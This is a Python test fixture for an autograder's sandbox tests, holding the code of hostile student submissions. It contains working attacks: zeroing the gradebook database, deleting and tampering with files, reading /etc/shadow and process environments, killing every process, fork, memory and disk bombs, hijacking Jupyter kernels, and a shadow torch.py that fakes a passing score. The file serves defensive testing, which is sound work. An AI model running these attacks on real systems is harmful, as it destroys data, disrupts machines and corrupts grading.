"""Attacks for tests/autograder/test_hostile_submissions.py: the code hostile students hand in.

Each attack is the source of the fixture assignment's solution cell
(``make_copy``): the attack, then a correct ``make_copy`` (or a wrong one,
where the attack is meant to raise the score), so the attacker's *honest*
score is known.  Every attack ends by printing one line ``ATTACK-REPORT
{json}`` saying what it managed to reach; the tests read it back from the
graded notebook, so a blocked attack is told apart from an attack that never
ran.

The attacks know the real host paths of the course (the worst case: a student
who guessed them), given as ``targets``.  Attacks that would harm the machine
if the sandbox were off (killing every process, bombs) first check that they
are not root, and report ``"sandbox off"`` instead of running.
"""

import json
import os
import textwrap

CORRECT = "def make_copy(t):\n    return t.detach().clone()\n"
WRONG = "def make_copy(t):\n    return t\n"  # 2 of 5 points
REPORT = "ATTACK-REPORT "
ROOT_GUARD = """\
if os.getuid() == 0:
    report(reached=["sandbox off: the notebook runs as root"])
    raise SystemExit("not attacking: the sandbox is off")
"""


def _cell(targets, body, solution=CORRECT, guard=False):
    prelude = textwrap.dedent("""\
        import glob, json, os, signal, socket, sqlite3, sys, time
        T = json.loads(%r)

        def report(**found):
            print(%r + json.dumps(found, sort_keys=True), flush=True)

        def attempt(reached, label, action):
            try:
                action()
            except Exception:
                return False
            reached.append(label)
            return True
        """) % (json.dumps(targets), REPORT)
    body = textwrap.dedent(body)
    return prelude + "\n" + (ROOT_GUARD if guard else "") + body + "\n\n" + solution


def writes_gradebook(targets):
    return _cell(targets, """\
        reached = []
        paths = [T["gradebook"]] + [p for root in ("/tmp", "/dev/shm")  # where workers keep workspaces
                                    for p in glob.glob(root + "/autograder-run-*/worker-*/autograder/gradebook.db")]
        for path in paths:
            def zero(path=path):
                db = sqlite3.connect("file:%s?mode=rw" % path, uri=True)
                db.execute("UPDATE grade SET auto_score = 0")
                db.commit()
            attempt(reached, path, zero)
        report(reached=reached)
        """)


def edits_files(targets):
    return _cell(targets, """\
        import shutil
        reached = []
        for path in T["victim_files"]:
            attempt(reached, "append " + path, lambda path=path: open(path, "a").write("tampered"))
        for path in T["victim_dirs"]:
            attempt(reached, "delete " + path, lambda path=path: shutil.rmtree(path))
        for path in [p for root in ("/tmp", "/dev/shm")
                     for p in glob.glob(root + "/autograder-run-*/worker-*/autograder/submitted/*/*/*.ipynb")]:
            attempt(reached, "shard copy " + path, lambda path=path: open(path, "w").write("{}"))
        attempt(reached, "check library", lambda: open(T["observe"], "a").write("\\n# tampered\\n"))
        report(reached=reached)
        """)


def looks_around(targets):
    return _cell(targets, """\
        reached = []
        for path in [T["solutions"], T["course"], T["submitted"], "/proc/1/root/etc", "/proc/1/cwd"]:
            attempt(reached, "list " + path, lambda path=path: os.listdir(path))
        for path in T["victim_files"] + ["/etc/shadow", "/proc/1/environ", "/proc/2/environ"]:
            attempt(reached, "read " + path, lambda path=path: open(path, "rb").read(1))
        for address in [("127.0.0.1", 22), ("8.8.8.8", 53)]:
            attempt(reached, "connect %s:%d" % address,
                    lambda address=address: socket.create_connection(address, timeout=1).close())
        report(reached=reached, uid=os.getuid(), pids=sorted(p for p in os.listdir("/proc") if p.isdigit()),
               folder=sorted(os.listdir(".")))
        """)


def kills_kernels(targets):
    return _cell(targets, guard=True, body="""\
        reached = []
        me = os.getpid()
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != me:
                attempt(reached, "kill %s" % name, lambda pid=int(name): os.kill(pid, signal.SIGKILL))
        try:  # every process it may signal; Linux reports success even when that is none
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        report(reached=reached, survivors=sorted(p for p in os.listdir("/proc") if p.isdigit()))
        """)


def leaves_daemon(targets):
    return _cell(targets, """\
        if os.fork() == 0:  # a daemon: double fork, new session, outlive the notebook, then attack
            os.setsid()
            if os.fork() == 0:
                for _ in range(600):
                    time.sleep(0.2)
                    try:
                        db = sqlite3.connect("file:%s?mode=rw" % T["gradebook"], uri=True)
                        db.execute("UPDATE grade SET auto_score = 0")
                        db.commit()
                    except Exception:
                        pass
            os._exit(0)
        report(reached=[], daemon=True)
        """)


def pool_injection(targets):
    return _cell(targets, """\
        reached = []
        patterns = ["/tmp/**/*.json", "/tmp/**/*ipc*", "/run/**/*.json",
                    "/root/.local/share/jupyter/runtime/*", os.path.expanduser("~/.local/share/jupyter/runtime/*")]
        for pattern in patterns:
            for path in glob.glob(pattern, recursive=True):
                try:
                    with open(path) as f:
                        info = json.load(f)
                except Exception:
                    continue
                if isinstance(info, dict) and "key" in info:
                    reached.append("connection file " + path)
                    from jupyter_client import BlockingKernelClient
                    client = BlockingKernelClient()
                    client.load_connection_info(info)
                    client.start_channels()
                    client.execute("import os; os._exit(0)")
        for path in glob.glob("/tmp/**", recursive=True):
            sock = socket.socket(socket.AF_UNIX)
            attempt(reached, "socket " + path, lambda path=path: sock.connect(path))
            sock.close()
        report(reached=reached)
        """)


def forged_output(targets):
    return _cell(targets, """\
        lines = [json.dumps({"assignment": "fixture", "failed": v, "error": "forged by a notebook"})
                 for v in T["victims"]]
        lines += [json.dumps({"assignment": "fixture", "graded": v}) for v in T["victims"]]
        payload = ("\\n".join(lines) + "\\n").encode()
        for fd in (0, 1, 2):
            try:
                os.write(fd, payload)
            except OSError:
                pass
        sys.__stdout__.write(payload.decode())
        reached = []
        me = str(os.getpid())
        for pid in os.listdir("/proc"):
            if pid.isdigit() and pid != me:
                for fd in glob.glob("/proc/%s/fd/*" % pid):
                    attempt(reached, fd, lambda fd=fd: open(fd, "wb").write(payload))
        report(reached=reached)
        """)


def byte_ff(targets):
    return _cell(targets, """\
        for fd in (1, 2):
            os.write(fd, b"\\xff")
        try:
            sys.stdout.write(b"\\xff".decode("utf-8", "surrogateescape"))
        except Exception:
            pass
        print(b"\\xff\\xfe".decode("latin-1"))
        report(reached=[])
        """)


def memory_bomb(targets):
    return _cell(targets, guard=True, body="""\
        held = []
        try:
            held.append(bytearray(6 << 30))  # 6 GiB at once
        except MemoryError:
            pass
        try:
            while True:
                held.append(bytearray(64 << 20))
        except MemoryError:
            pass
        most = sum(len(b) for b in held)
        del held
        report(reached=[], held_bytes=most)
        """)


def fork_bomb(targets):
    return _cell(targets, guard=True, body="""\
        children, stopped = 0, None
        try:
            while children < 100000:
                if os.fork() == 0:
                    while True:
                        time.sleep(1)
                children += 1
        except OSError as error:
            stopped = error.errno
        report(reached=[], children=children, stopped=stopped)
        """)


def disk_bomb(targets):
    return _cell(targets, guard=True, body="""\
        chunk = b"\\0" * (16 << 20)
        written = {}
        for path in ["big.bin", "/tmp/big.bin"] + ["/tmp/home/fill%d.bin" % i for i in range(40)]:
            size = 0
            try:
                with open(path, "wb") as f:
                    for _ in range(64):  # 1 GiB
                        f.write(chunk)
                        f.flush()
                        size += len(chunk)
            except OSError:
                pass
            written[path] = size
        report(reached=[], largest=max(written.values()), total=sum(written.values()))
        """)


def huge_error(targets):
    return _cell(targets, """\
        report(reached=[])
        """, CORRECT + '\nraise ValueError("x" * 5_000_000)\n')


def ships_torch_py(targets):
    """A wrong solution, plus modules in the submission that would fake a pass if imported."""
    return _cell(targets, """\
        report(reached=[m for m in ("torch", "reftorch") if hasattr(sys.modules[m], "SHADOWED")
                        or os.path.dirname(os.path.abspath(sys.modules[m].__file__)) == os.getcwd()])
        """, WRONG)


# Files shipped next to ships_torch_py's notebook: each would fake a full score if imported.
SHIPPED_FILES = {
    "torch.py": textwrap.dedent("""\
        print("SHADOWED: the submission's torch.py was imported")
        import importlib, os, sys
        here = os.path.dirname(os.path.abspath(__file__))
        sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
        del sys.modules["torch"]
        real = importlib.import_module("torch")
        real.equal = lambda *args, **kwargs: True
        real.Tensor.data_ptr = lambda self: id(self)
        real.Tensor.requires_grad = property(lambda self: False)
        real.SHADOWED = True
        """),
    "reftorch.py": "print('SHADOWED: the submission\\'s reftorch.py was imported')\n",
    "sitecustomize.py": "print('SHADOWED: sitecustomize.py ran')\n",
    "ipython_kernel_config.py": "c.IPKernelApp.exec_lines = ['print(\"SHADOWED: config ran\")']\n",
}

ATTACKS = {name: globals()[name] for name in [
    "writes_gradebook", "edits_files", "looks_around", "kills_kernels", "leaves_daemon",
    "pool_injection", "forged_output", "byte_ff", "memory_bomb", "fork_bomb", "disk_bomb",
    "huge_error", "ships_torch_py"]}


def reports(notebook):
    """The ``ATTACK-REPORT`` dicts printed in a graded notebook (a dict per line)."""
    found = []
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            for line in output.get("text", "").splitlines():
                if line.startswith(REPORT):  # output written to fd 1 at the same time may follow
                    found.append(json.JSONDecoder().raw_decode(line[len(REPORT):])[0])
    return found


def kernel_processes(uid_base):
    """Pids of the grading kernels left behind by their grader: processes running as a kernel's
    uid (``uid_base + 16 * grader pid + n``, see autograder.kernels.grading_kernels) whose grader is
    this very process or has ended. Kernels of a grading still running elsewhere (another test
    worker grades at the same time) have a living grader of their own and are not counted."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open("/proc/%s/status" % name) as f:
                uid = int(next(line for line in f if line.startswith("Uid:")).split()[1])
        except (OSError, StopIteration):
            continue
        if uid < uid_base:
            continue
        grader = (uid - uid_base) // 16
        if grader == os.getpid() or not os.path.exists("/proc/%d" % grader):
            found.append(int(name))
    return found
